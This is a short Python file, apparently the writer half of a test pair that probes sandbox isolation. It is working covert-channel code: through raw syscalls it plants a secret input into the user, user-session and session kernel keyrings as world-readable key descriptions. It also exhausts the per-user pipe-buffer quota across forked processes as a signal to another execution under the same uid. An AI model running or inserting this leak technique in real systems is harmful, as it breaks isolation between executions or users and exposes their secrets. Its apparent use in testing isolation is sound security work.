# The writer of a cross-execution pair: leave this execution's hidden input where another execution of
# the same host uid could find it -- as key descriptions in every keyring it can reach (permissions
# opened to all), and as an exhausted per-user pipe-buffer quota (a signal) held while it sleeps.
import ctypes
import fcntl
import os
import time

SYS_ADD_KEY, SYS_KEYCTL, KEYCTL_SETPERM = 248, 250, 5
RINGS = (-4, -5, -3)  # user, user-session, session keyrings


def hold_pipe_quota():
    pipes = []
    for _ in range(28):  # 56 descriptors under the 64-file limit
        try:
            r, w = os.pipe()
            fcntl.fcntl(w, fcntl.F_SETPIPE_SZ, 1 << 20)  # reserves 256 pages of the per-user quota
            pipes.append((r, w))
        except OSError:
            break
    return pipes


def f(secret):
    if os.uname().machine == "x86_64":
        libc = ctypes.CDLL(None, use_errno=True)
        for ring in RINGS:
            key = libc.syscall(SYS_ADD_KEY, b"user", ("ag-leak:" + secret).encode(), b"x", 1, ring)
            if key > 0:
                libc.syscall(SYS_KEYCTL, KEYCTL_SETPERM, key, 0x3F3F3F3F)
    children = []
    for _ in range(3):  # 4 x 28 MiB of reserved pipe buffers: over the 64 MiB per-user soft quota
        pid = os.fork()
        if pid == 0:
            hold_pipe_quota()
            time.sleep(3)
            os._exit(0)
        children.append(pid)
    hold_pipe_quota()
    time.sleep(3)
    return secret
